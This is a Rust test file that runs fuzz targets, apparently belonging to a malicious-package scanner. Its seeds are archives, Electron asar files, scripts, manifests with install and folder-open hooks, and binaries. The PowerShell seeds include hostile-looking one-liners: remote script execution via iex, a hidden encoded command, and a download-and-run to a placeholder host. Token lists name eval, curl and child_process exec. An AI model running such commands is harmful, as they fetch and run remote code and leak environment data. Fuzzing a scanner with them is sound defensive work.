//! The bodies of the fuzz targets, run over small corpora and some thousand mutations of them:
//! short, without a fuzzer, and with the same inputs every time.

#![allow(
    clippy::expect_used,
    reason = "the bodies of fuzz targets say what is wrong by a panic"
)]

#[path = "../../../fuzz/src/artifacts.rs"]
mod artifacts;
#[path = "../../../fuzz/src/short.rs"]
mod short;

use artifacts::{BODIES, gzip, tar, zip};
use std::path::Path;

/// Runs a target over seeds, each behind a few of the bytes that choose the way in.
fn run(name: &str, ways: u8, seeds: &[Vec<u8>], tokens: &[&str], count: usize) {
    let (_, body) = *BODIES
        .iter()
        .find(|(known, _)| *known == name)
        .expect("a target of this name");
    let seeds: Vec<Vec<u8>> = seeds
        .iter()
        .enumerate()
        .map(|(number, seed)| {
            let mut data = vec![number as u8 % ways];
            data.extend_from_slice(seed);
            data
        })
        .collect();
    short::run(name, &seeds, tokens, count, &|data| {
        artifacts::run(body, data)
    });
}

/// Small files of the shapes whose path ends so, at most so many of them.
fn shapes(most: usize, wanted: impl Fn(&str) -> bool) -> Vec<Vec<u8>> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("shapes");
    let mut paths: Vec<_> = std::fs::read_dir(&folder)
        .expect("the folder of shapes")
        .map(|entry| entry.expect("a shape").path())
        .filter(|path| path.extension().is_some_and(|extension| extension == "txt"))
        .collect();
    paths.sort();
    let mut files: Vec<Vec<u8>> = Vec::new();
    for path in paths {
        let text = std::fs::read_to_string(&path).expect("a shape");
        for piece in text.split("\n--- ").skip(1) {
            let piece = piece.split("\n=== ").next().unwrap_or(piece);
            let Some((name, content)) = piece.split_once('\n') else {
                continue;
            };
            if wanted(name.trim()) && content.len() < 3_000 {
                files.push(content.as_bytes().to_vec());
            }
        }
    }
    let step = (files.len() / most).max(1);
    files.into_iter().step_by(step).take(most).collect()
}

fn ends(endings: &'static [&'static str]) -> impl Fn(&str) -> bool {
    move |name| endings.iter().any(|ending| name.ends_with(ending))
}

#[test]
fn every_target_is_run_here() {
    let here = include_str!("fuzzed.rs");
    for (name, _) in BODIES {
        assert!(here.contains(&format!("run(\"{name}\"")), "{name}");
    }
}

#[test]
fn archives() {
    let files: [(&str, &[u8]); 3] = [
        (
            "package/package.json",
            br#"{"scripts": {"install": "node a.js"}}"#,
        ),
        ("package/a.js", b"require('./b')"),
        ("package/A.js", b"eval(1)"),
    ];
    let plain = tar(&files);
    let mut hidden = plain.clone();
    hidden.extend_from_slice(&plain);
    let two = [gzip(&plain), gzip(&plain)].concat();
    let mut before = b"#!/bin/sh\n".to_vec();
    before.extend_from_slice(&zip(&files));
    let nested = tar(&[
        ("package/b.tgz", &gzip(&plain)),
        ("package/c.zip", &zip(&files)),
    ]);
    let seeds = [
        plain.clone(),
        gzip(&plain),
        zip(&files),
        hidden,
        two,
        before,
        nested,
        Vec::new(),
    ];
    // Each of them in each of the four ways.
    let seeds: Vec<Vec<u8>> = seeds
        .iter()
        .flat_map(|seed| vec![seed.clone(); 5])
        .collect();
    let tokens = [
        "../",
        "PK\u{1}\u{2}",
        "PK\u{3}\u{4}",
        "PK\u{5}\u{6}",
        "\u{1f}",
        "ustar\0",
        "00000000001\0",
        "/",
    ];
    run("unpack", 4, &seeds, &tokens, 500);
}

// A tar with `package/a.js` in it, by Python's lzma and bz2.
const XZ: &str = "/Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj4Af/AExdADgYSJnNF3UkZoz4ZFQo9TgYH6lhTpKkYmflUzBuR2r6Pm7fAp8IdKAAVGVpJvkEDRbG5aj7WNttRVxor/A6J5H3R01yLPNF1SFU9AAADYqP/QtyE0cAAWiAEAAAAOe+DcaxxGf7AgAAAAAEWVo=";
const LZMA: &str = "XQAAgAD//////////wA4GEiZzRd1JGaM+GRUKPU4GB+pYU6SpGJn5VMwbkdq+j5u3wKfCHSgAFRlaSb5BA0WxuWo+1jbbUVcaK/wOieR90dNcizzRdVSNrD//+plYAA=";
const BZIP2: &str = "QlpoOTFBWSZTWTFeuUYAADNbgMqQQGHnAAQAapxfQAgoIABUVqekyDRkZGhmpjQSiQeoA0DQ0ARrPkGlEC/h9A1SzoCha6PkNntmqDKIQchIPxRvEVBEirRv9hKgnhY6n4fIBcXckU4UJAxXrlGA";
// Lines by `zstd -1`: literals, a table of Huffman, sequences.
const ZSTD: &str = "KLUv/QRItQwAlhw9FpAnaQNicXXD2u6OlFBLSTuNPNeXAhw6ADMANQCllmf8+/KM9bQ8o0g9RkWFeMkwjFdVDRGR//OM1ZnhGYdtnvFtecYSCkaCAwoFDAIIILyBAitQeEYJtS/EFkPZHsge6naNPZBtU21xsf+yTy3P2Jq3POM90/KMQ9gtz1jktjwjWVqesUa1POOoZ6yo0s8zilQ/wzPW1JnhGf/XMzzjqGlneMYarszwjGS3ZnjGopZmeMYhpJ/hGW/pzNTwzAiEgpHggEMkPiaqmRLdI0TTKaIhog6fSISHSAabSMolIssvd/0ypl/s/63nF/uf0f9C/hrqZ4DTqCG4V0ma+x2go5QOEBBlWB9x30kru0V7l6ac7FXam3RS18u82HVUfXPeVf/wyHVyBE0CnSlyLM26ksCRFOlIteNIoBtFjqJZJxJ/PV+1LkfP6Tk7P2tdxs7Tc3p+GFJdSAJK4ifrwcyz6MycU9zU3GZPg83MO2Y2mKOlCpYsS0EDKOuS0UgO0TKwaGBRwSIDiwYGArdmS9wuon79KvAepLQ=";

fn unarmoured(text: &str) -> Vec<u8> {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD
        .decode(text)
        .expect("base64")
}

/// An archive of Electron: four lengths, a header in JSON, the files.
fn asar(header: &str, files: &[u8]) -> Vec<u8> {
    let mut text = header.as_bytes().to_vec();
    let length = text.len() as u32;
    text.resize(text.len().next_multiple_of(4), 0);
    let inner = text.len() as u32 + 4;
    let lengths = [4, inner + 4, inner, length];
    let mut out: Vec<u8> = lengths.iter().flat_map(|n: &u32| n.to_le_bytes()).collect();
    out.extend_from_slice(&text);
    out.extend_from_slice(files);
    out
}

#[test]
fn archives_of_electron_and_streams_of_other_compressions() {
    let header = r#"{"files": {"a.js": {"size": 3, "offset": "0", "executable": true}, "lib": {"files": {"b.js": {"size": 3, "offset": "3"}}}, "c": {"link": "a.js"}, "d.node": {"size": 9, "unpacked": true}}}"#;
    let kinds = [
        asar(header, b"x()a()"),
        unarmoured(BZIP2),
        unarmoured(XZ),
        unarmoured(LZMA),
        unarmoured(ZSTD),
    ];
    // Each as it is, and under its name in an archive.
    let seeds: Vec<Vec<u8>> = kinds
        .iter()
        .flat_map(|kind| vec![kind.clone(); 2])
        .collect();
    let tokens = [
        "\"files\": {\"a\": {",
        "\"offset\": \"99999999999999999999\"",
        "\"size\": -1",
        "\"link\": \"../../x\"",
        "}",
        "BZh9",
        "\u{1}\0\0\0",
        "\u{4}\0\0\0",
        "YZ",
    ];
    run("compressed", 10, &seeds, &tokens, 600);
}

#[test]
fn programs_of_javascript() {
    let seeds = shapes(60, ends(&[".js", ".mjs", ".cjs", ".ts", ".tsx"]));
    let tokens = [
        "(",
        "[",
        "{",
        "}",
        "`${",
        "=>",
        "<a>",
        "!",
        "else ",
        "?.",
        "...",
        "/*",
        "//",
        "async ",
        "await ",
        "require(",
        "eval(",
        "process.env",
        "'",
        "\"",
        "`",
        "/",
        "\\u{",
        "import ",
        "class ",
        "#!",
        "-->",
        "as ",
        "<T>",
        "?:",
        "yield ",
        "new ",
        "with(a)",
    ];
    run("javascript", 5, &seeds, &tokens, 350);
}

#[test]
fn programs_of_python() {
    let seeds = shapes(60, ends(&[".py", ".pth"]));
    let tokens = [
        "(",
        "[",
        "{",
        "lambda a,b:",
        "not ",
        "f'{",
        "'''",
        "\"\"\"",
        "\n    ",
        "\n\t",
        "\\\n",
        "if ",
        "else ",
        "async ",
        "await ",
        "exec(",
        "import ",
        "from . import ",
        "@",
        ":=",
        "*",
        "match a:\n case ",
        "#",
        "b'\\x",
        "global a\n",
        "del ",
        "try:\n",
        "getattr(",
    ];
    run("python", 3, &seeds, &tokens, 350);
}

#[test]
fn programs_of_rust() {
    let seeds = shapes(50, ends(&[".rs"]));
    let tokens = [
        "(",
        "[",
        "{",
        "<",
        "&",
        "*",
        "!",
        "|a|",
        "r#\"",
        "'",
        "\"",
        "/*",
        "//",
        "macro_rules! a {",
        "#[",
        "println!(",
        "include!(",
        "Command::new(",
        "?",
        ".await",
        "unsafe {",
        "-",
        "'a: ",
        "dyn ",
        "as ",
    ];
    run("rust", 2, &seeds, &tokens, 300);
}

#[test]
fn commands_of_shells() {
    let seeds = shapes(50, ends(&[".sh", ".bash", "hook"]));
    let tokens = [
        "$(", "`", "\"", "'", "<<EOF\n", "<(", "${", "$((", "|", "&&", ";", "(", "{ ", "}",
        "f() {", "\\", "2>&1", ">", "if ", "then ", "case ", "curl ", "sh -c ", "eval ", "#",
        "$'\\x",
    ];
    run("shell", 3, &seeds, &tokens, 350);
}

#[test]
fn commands_of_powershell() {
    let seeds: Vec<Vec<u8>> = [
        "iex (iwr https://a.invalid/x.ps1).Content",
        "$a = [Convert]::FromBase64String('YQ=='); & ([scriptblock]::Create($a))",
        "powershell -w hidden -enc aQBlAHgAIAAxAA==",
        "Invoke-WebRequest -Uri \"https://a.invalid/$env:USERNAME\" -OutFile b.exe; Start-Process b.exe",
        "Get-ChildItem Env: | ForEach-Object { $_.Name + '=' + $_.Value } | Out-File a.txt",
        "if ($true) { Set-ExecutionPolicy Bypass } else { exit 1 }",
    ]
    .iter()
    .map(|text| text.as_bytes().to_vec())
    .collect();
    // As a script, as a hook's words, and encoded.
    let seeds: Vec<Vec<u8>> = seeds
        .iter()
        .flat_map(|seed| vec![seed.clone(); 4])
        .collect();
    let tokens = [
        "$(",
        "@(",
        "{",
        "(",
        "'",
        "\"",
        "`",
        "@\"\n",
        "|",
        "-enc ",
        "-Command ",
        "&",
        ";",
        "iex ",
        "$env:",
        "[char]",
        "-join",
        "-f ",
        "<#",
        "#>",
        "名",
    ];
    run("powershell", 3, &seeds, &tokens, 250);
}

#[test]
fn manifests_of_all_kinds() {
    let texts: [&str; 12] = [
        r#"{"name": "a", "main": "b", "exports": {".": {"import": "./*.js"}}, "bin": {"a": "c"}, "scripts": {"install": "node index.js"}}"#,
        "{'includes': ['a.gypi'], 'targets': [{'actions': [{'action': ['node', 'a.js']}], 'sources': ['<!(node -p 1)']}]}",
        "[build-system]\nrequires = []\nbuild-backend = \"b\"\nbackend-path = [\".\"]\n[project.scripts]\na = \"b:c\"\n",
        "[metadata]\nname = a\n[options.entry_points]\nconsole_scripts =\n    a = b:c\n",
        "Metadata-Version: 2.1\nName: a\nRequires-Dist: b>=1\n\nText\n",
        "[console_scripts]\na = b:c\n",
        "Metadata-Version: 2.1\nName: a\nVersion: 1\n",
        "[package]\nname = \"a\"\nbuild = \"build.rs\"\n[lib]\nproc-macro = true\n[dependencies]\nb = { path = \"b\" }\n",
        "[package]\nname = \"b\"\n[lib]\npath = \"src/lib.rs\"\n",
        r#"{"tasks": [{"label": "a", "command": "sh a.sh", "runOptions": {"runOn": "folderOpen"}}]}"#,
        r#"{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "sh a.sh"}]}]}}"#,
        r#"{"name": "b", "scripts": {"postinstall": "node c.js"}, "main": "d"}"#,
    ];
    let seeds: Vec<Vec<u8>> = texts.iter().map(|text| text.as_bytes().to_vec()).collect();
    let tokens = [
        "{",
        "[",
        "\"",
        "'",
        ":",
        ",",
        "<!(",
        "<!@(",
        "'includes': [",
        "'action': [",
        "[a]\n",
        "[[a]]\n",
        "= ",
        "*",
        "../",
        "//",
        "null",
        "1e999",
        "\\u0000",
        "\"scripts\": {",
        "#",
        "\n ",
        "]",
        "}",
    ];
    run("manifests", 12, &seeds, &tokens, 500);
}

#[test]
fn binaries_of_all_kinds() {
    let mut elf = vec![0_u8; 0x200];
    // Behind the mark: a library for x86-64 with two program headers.
    elf[9..13].copy_from_slice(&[3, 0, 62, 0]);
    elf[25..33].copy_from_slice(&64_u64.to_le_bytes());
    elf[47..51].copy_from_slice(&[56, 0, 2, 0]);
    let wasm = b"\x02\x0f\x01\x03env\x07connect\x00\x00\x0a\x04\x01\x02\x00\x0b".to_vec();
    let zeros = vec![0_u8; 300];
    let counted: Vec<u8> = (0..=255).collect();
    let seeds: Vec<Vec<u8>> = (0..16)
        .map(|number| match number % 4 {
            0 => elf.clone(),
            1 => wasm.clone(),
            2 => zeros.clone(),
            _ => counted.clone(),
        })
        .collect();
    let tokens = [
        "\0\0\0\0",
        "\u{1}",
        "connect\0",
        "\u{7f}ELF",
        "PE\0\0",
        "\u{2}\0\0\0",
    ];
    run("native", 8, &seeds, &tokens, 600);
}

#[test]
fn programs_of_the_pure_machine() {
    // Every statement, with variables that are not all the same.
    let seeds: Vec<Vec<u8>> = (0..12_u8)
        .map(|seed| {
            (0..120_u8)
                .map(|at| {
                    at.wrapping_mul(seed.wrapping_mul(2) + 5)
                        .wrapping_add(at / 7)
                })
                .collect()
        })
        .collect();
    run("evaluator", 2, &seeds, &[], 160);
}

#[test]
fn the_same_bytes_give_the_same_answer() {
    let seeds = shapes(30, ends(&[".js"]));
    let tokens = [
        "\u{1b}[31m",
        "\u{202e}",
        "eval(",
        "fetch(",
        "process.env",
        "require('child_process').exec(",
    ];
    // This one has a single way in and no byte that chooses it.
    short::run("invariants", &seeds, &tokens, 120, &|data| {
        artifacts::run(artifacts::invariants, data);
    });
}
